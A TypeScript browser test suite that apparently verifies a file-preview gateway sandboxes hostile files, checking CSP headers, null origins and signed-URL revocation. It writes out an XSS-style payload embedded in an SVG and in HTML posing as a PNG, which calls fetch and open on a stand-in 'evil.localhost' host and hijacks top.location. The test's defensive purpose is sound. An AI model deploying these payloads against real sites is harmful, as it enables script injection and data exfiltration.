/** Hostile files in Chromium, shown by the page in frames of the preview gateway. */
import { once } from 'node:events';
import { createServer, get } from 'node:http';
import type { AddressInfo } from 'node:net';
import { buffer } from 'node:stream/consumers';
import type { Frame } from 'puppeteer-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { MEMBER_KEY, user } from '../surfaces/fakes/fake-services.ts';
import { type ServedPreviews, serveFilePreviews } from './support/file-previews.ts';
import { hostilePdf } from './support/hostile-pdf.ts';
import { type Opened, openPage } from './support/open-page.ts';
import { type Visitor, visit } from './support/visitor.ts';
import { PNG } from './support/world.ts';

/** The site that a hostile file wants to reach. */
const evil = createServer((request, response) => {
  if (request.url !== '/favicon.ico') reached.push(request.url ?? '');
  if (request.url === '/evil.svg') response.setHeader('content-type', 'image/svg+xml');
  response.end(request.url === '/evil.svg' ? SVG : 'taken');
}).listen(0, '127.0.0.1');
await once(evil, 'listening');
const EVIL = `http://evil.localhost:${(evil.address() as AddressInfo).port}`;
const ATTACK = `document.title = 'taken'; try { top.document.title = 'taken'; } catch {}
  parent.postMessage('taken', '*'); fetch('${EVIL}/fetched'); open('${EVIL}/opened');
  top.location = '${EVIL}/moved';`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="${ATTACK}">
  <script>${ATTACK.replaceAll('&', '&amp;')}</script><rect id="seen" width="80" height="80" fill="red"/>
  <image href="${EVIL}/image"/><style>@import url(${EVIL}/style);</style>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/frame"/></foreignObject></svg>`;
const HTML = `<h1>HTML</h1><script>${ATTACK}</script>`;

/** Paths that anything in the browser asked of it. */
const reached: string[] = [];

let opened: Opened;
let previews: ServedPreviews;
let visitor: Visitor;

beforeAll(async () => {
  opened = await openPage(0);
  previews = await serveFilePreviews(opened.world);
  ({ visitor } = opened);
  visitor.page.on('dialog', (dialog) => void dialog.dismiss());
  const files = { 'evil.svg': SVG, 'html.png': HTML, 'evil.pdf': hostilePdf(EVIL) };
  for (const [name, content] of Object.entries(files))
    opened.world.tree.set(`/workspace/data/${name}`, Buffer.from(content));
  await visitor.page.evaluate("addEventListener('message', ({ data }) => { document.title = data; })");
}, 60_000);

afterAll(async () => {
  evil.close();
  await previews?.close();
  await opened?.close();
});

beforeEach(() => {
  reached.length = 0;
  visitor.faults.length = 0;
});

const isPreview = (frame: Frame) => frame.url().startsWith('http://file-');

async function show(name: string): Promise<Frame> {
  const file = encodeURIComponent(`/workspace/data/${name}`);
  await visitor.page.goto(`${opened.url}/sandboxes/${opened.demo}/files?file=${file}`);
  return visitor.page.waitForFrame(isPreview);
}

/** Nothing has left the frame. */
async function expectHarmless(): Promise<void> {
  expect(await visitor.page.title()).not.toBe('taken');
  expect(visitor.page.url()).toContain(opened.url);
  expect(reached).toEqual([]);
  // A request that the policy stops is noted too; what came through is in `reached`.
  const own = (fault: string) => !fault.startsWith('request: ');
  expect(visitor.faults.filter(own)).toEqual([]);
  const open = (await opened.browser.pages()).map((page) => page.url());
  expect(open.filter((url) => url.startsWith(EVIL))).toEqual([]);
}

function answerTo(
  url: string,
): Promise<{ status: number; headers: NodeJS.Dict<string | string[]>; body: Buffer }> {
  const { host, port, pathname } = new URL(url);
  return new Promise((resolve, reject) => {
    const request = get({ host: '127.0.0.1', port, path: pathname, headers: { host } }, async (answer) => {
      const { statusCode: status = 0, headers } = answer;
      resolve({ status, headers, body: await buffer(answer) });
    });
    request.once('error', reject);
  });
}

const addressOf = async (path: string) =>
  (await opened.world.services.filePreviews.create(user, opened.demo, path)).url;

describe('the attack', () => {
  it('succeeds where nothing prevents it', async () => {
    const apart = await opened.browser.createBrowserContext();
    const page = await apart.newPage();
    await page.goto(`${EVIL}/evil.svg`);
    await expect.poll(() => reached).toContain('/fetched');
    await apart.close();
  });
});

describe('in a frame', () => {
  it('a picture is seen', async () => {
    const frame = await show('point.png');
    await frame.waitForFunction('document.images[0]?.naturalWidth === 8');
    await expectHarmless();
    expect(await visitor.broken()).toEqual([]);
  });

  it('an SVG is seen, and its scripts, fetches and frames come to nothing', async () => {
    const frame = await show('evil.svg');
    await frame.waitForSelector('#seen');
    expect(await frame.evaluate('origin')).toBe('null');
    await expectHarmless();
  });

  it('HTML that is named as a picture is no HTML', async () => {
    const frame = await show('html.png');
    await frame.waitForFunction("document.readyState === 'complete'");
    expect(await frame.$('h1')).toBeNull();
    await expectHarmless();
  });

  it('a PDF is shown by the browser’s viewer, and its scripts reach nothing', async () => {
    await show('evil.pdf');
    const viewer = (frame: Frame) => frame.url().startsWith('chrome-extension://');
    await visitor.page.waitForFrame(viewer);
    await expect.poll(() => visitor.page.frames().filter(isPreview).length).toBe(2);
    await expectHarmless();
  });
});

describe('the page', () => {
  it('shows a picture itself where the preview’s site is out of reach', async () => {
    await show('point.png');
    await visitor.click('Show it in this page');
    await visitor.page.waitForFunction('document.querySelector("main img")?.naturalWidth === 8');
  });
});

describe('a viewer', () => {
  it('has no address of a picture, and sees it in the page', async () => {
    const { services } = opened.world;
    const who = { id: 'user_2', name: 'Ben', email: 'ben@example.org' };
    const size = { cpu: 1, memory: 1, disk: 20, gpu: 0 };
    const made = { name: 'his', language: 'python', labels: {}, envVars: {}, autoStopMinutes: 15, ...size };
    const { id } = await services.sandboxes.create(who, made as never);
    await services.users.update('user_2', { role: 'viewer' });
    const viewer = await visit(opened.browser, opened.url);
    await viewer.signIn(MEMBER_KEY);
    await viewer.sees('his');
    await viewer.go(`/sandboxes/${id}/files?file=${encodeURIComponent('/workspace/data/point.png')}`);
    await viewer.page.waitForFunction('document.querySelector("main img")?.naturalWidth === 8');
    expect(viewer.page.frames().filter(isPreview)).toEqual([]);
    await viewer.page.close();
  });
});

describe('an address', () => {
  it('is answered with a policy that leaves nothing to run', async () => {
    const { status, headers, body } = await answerTo(await addressOf('/workspace/data/point.png'));
    expect(status).toBe(200);
    expect(body.toString('base64')).toBe(PNG);
    expect(headers).toMatchObject({
      'content-type': 'image/png',
      'content-security-policy': "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:",
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
      'referrer-policy': 'no-referrer',
      'cache-control': 'no-store',
    });
  });

  it('that a tab opens by itself runs nothing either', async () => {
    const page = await opened.browser.newPage();
    await page.goto(await addressOf('/workspace/data/evil.svg'));
    await page.waitForSelector('#seen');
    expect(await page.title()).not.toBe('taken');
    expect(new URL(page.url()).host).toMatch(/^file-/);
    await page.close();
  });

  it('is refused once changed, and once previews or its key are revoked', async () => {
    const url = await addressOf('/workspace/data/point.png');
    const statusOf = async (address: string) => (await answerTo(address)).status;
    expect(await statusOf(`${url}x`)).toBe(401);
    expect(await statusOf(url.replace('//file-', '//file-a').replace(/.\.localhost/, '.localhost'))).toBe(
      401,
    );
    previews.revoked.add(user.keyId);
    expect(await statusOf(url)).toBe(401);
    previews.revoked.clear();
    expect(await statusOf(url)).toBe(200);
    await previews.access.revoke(opened.demo, ['preview']);
    expect(await statusOf(url)).toBe(401);
  });
});
